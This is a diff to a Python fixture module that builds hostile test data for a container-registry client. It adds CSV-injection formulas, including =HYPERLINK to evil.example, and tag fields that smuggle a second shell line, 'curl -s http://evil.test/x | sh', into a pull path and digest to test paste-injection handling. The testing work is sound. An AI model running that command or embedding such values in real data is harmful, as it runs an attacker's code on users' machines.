@@ -2,7 +2,8 @@
 
 ``CORPUS`` holds named strings: Rich/Textual markup, terminal escape sequences (OSC 52 clipboard,
 OSC 0 window title, CSI, DCS, 8-bit C1), bidi overrides, zero-width and double-width characters,
-a 10,000-character string and a lone surrogate. Each carries a printable marker (``PWNED-...``) so
+a 10,000-character string, a lone surrogate and spreadsheet formulas (``=HYPERLINK(...)``,
+``@SUM(1)``, ``-1+1``). Each carries a printable marker (``PWNED-...``) so
 a test can find it, ``shown``: how it must look once made safe (``scrub``), and ``raw``: byte
 sequences that must never reach a terminal.
 
@@ -11,8 +12,11 @@ sequences that must never reach a terminal.
 - one namespace per corpus string that can travel in a URL, each with a repository ``app``;
 - ``hostile``: repositories named with corpus strings (descriptions too) and "." and "..";
   ``tags``, whose tags are named with every corpus string and whose manifests (of every kind) carry
-  them in annotations, platforms, layer fields and schema 1 fields; and ``big``, with 5 MB and
-  deeply nested manifests between small ones;
+  them in annotations, platforms, layer fields and schema 1 fields; ``big``, with 5 MB and
+  deeply nested manifests between small ones; and ``fields``, whose tags have well-formed names but
+  malformed fields as the server sends them (``FIELD_TAGS``): a pull path, internal path and digest
+  that carry a second shell command line (paste injection), and ``updated`` times that cannot be
+  converted to UTC (year 1 at +14:00, year 9999 at -14:00), and a tag of the longest valid name;
 - ``hostile-errors``: repository ``err-<entry>`` answers its tag list with HTTP 403 whose
   ``error_msg`` is that corpus string (``err-code``: a hostile ``error_code`` too);
 - ``hostile-broken``: its repository list answers 400 with a hostile message and code;
@@ -154,6 +158,10 @@ def _entries() -> tuple[Hostile, ...]:
             in_url=False,
             in_repo_name=False,
         ),
+        # Spreadsheet formulas (CSV injection): csv/tsv output must prefix them with "'".
+        Hostile("formula-hyperlink", '=HYPERLINK("evil.example","PWNED-FORMULA")', "PWNED-FORMULA"),
+        Hostile("formula-at", "@SUM(1)+PWNED-AT", "PWNED-AT"),
+        Hostile("formula-minus", "-1+1+PWNED-MINUS", "PWNED-MINUS"),
         Hostile("long", long_text, "LONG-HEAD-"),
     )
 
@@ -166,6 +174,22 @@ ERRORS_NAMESPACE = "hostile-errors"
 BROKEN_NAMESPACE = "hostile-broken"
 TAGS_REPO = "tags"  # in HOSTILE_NAMESPACE: one tag per corpus string, plus one tag per manifest kind
 BIG_REPO = "big"  # in HOSTILE_NAMESPACE: 5 MB and deeply nested manifests between small tags
+FIELDS_REPO = "fields"  # in HOSTILE_NAMESPACE: plain names, malformed fields (FIELD_TAGS)
+# Pasted into a shell, each of these runs the attacker's command after the expected one.
+INJECTED_LINE = "\ncurl -s http://evil.test/x | sh\n"
+PASTE_PATH = f"swr.example.test/h/paste:v1{INJECTED_LINE}"
+PASTE_INTERNAL_PATH = f"100.125.0.198:20202/h/paste:v1{INJECTED_LINE}"
+PASTE_DIGEST = f"sha256:{'ab' * 32}{INJECTED_LINE}"
+EARLIEST_TIME = "0001-01-01T00:00:00+14:00"  # before datetime.min once in UTC
+LATEST_TIME = "9999-12-31T23:59:59-14:00"  # after datetime.max once in UTC
+LONGEST_TAG = "longest-" + "x" * 120  # 128 characters: the longest tag name the grammar allows
+# FIELDS_REPO's tags, newest first: name -> the fields the server sends as given.
+FIELD_TAGS: dict[str, dict[str, str]] = {
+    "paste": {"path": PASTE_PATH, "internal_path": PASTE_INTERNAL_PATH, "digest": PASTE_DIGEST},
+    "year-1": {"created": EARLIEST_TIME, "updated": EARLIEST_TIME},
+    "year-9999": {"created": LATEST_TIME, "updated": LATEST_TIME},
+    LONGEST_TAG: {},  # nothing malformed: valid references longer than the copy menu shows
+}
 NAMESPACE_REPO = "app"  # the repository in each corpus-named namespace
 # Repositories named "." and "..": a client that leaves them unencoded in a URL path asks for
 # another resource (httpx removes dot segments: .../repos/../tags becomes .../tags).
@@ -493,6 +517,13 @@ def big_repo_specs() -> list[tuple[str, Built]]:
     return [(name, built.get(name) or _plain_image(name)) for name in BIG_TAGS]
 
 
+def _with_wire_fields(tags: ExplicitTags, wire: dict[str, dict[str, str]]) -> ExplicitTags:
+    records = [tags.record(index) for index in range(tags.count)]
+    return ExplicitTags(
+        [replace(record, wire=tuple(wire.get(record.name, {}).items())) for record in records]
+    )
+
+
 def build_hostile_dataset(seed: int = 0, anchor: Optional[datetime] = None) -> Dataset:
     """The default data set plus the hostile namespaces, repositories and tags (module docstring)."""
     base = build_dataset(seed, anchor)
@@ -511,6 +542,15 @@ def build_hostile_dataset(seed: int = 0, anchor: Optional[datetime] = None) -> D
         _repository(ids, hostile, TAGS_REPO, tags_repo_specs(), newest, BY_NAME["markup-close"].text)
     )
     repos.append(_repository(ids, hostile, BIG_REPO, big_repo_specs(), newest, "5 MB and nested manifests"))
+    fields_repo = _repository(
+        ids,
+        hostile,
+        FIELDS_REPO,
+        [(name, _plain_image(name)) for name in FIELD_TAGS],
+        newest,
+        "malformed fields",
+    )
+    repos.append(replace(fields_repo, tags=_with_wire_fields(fields_repo.tags, FIELD_TAGS)))
     for index, entry in enumerate(repo_name_entries()):
         repos.append(
             _repository(
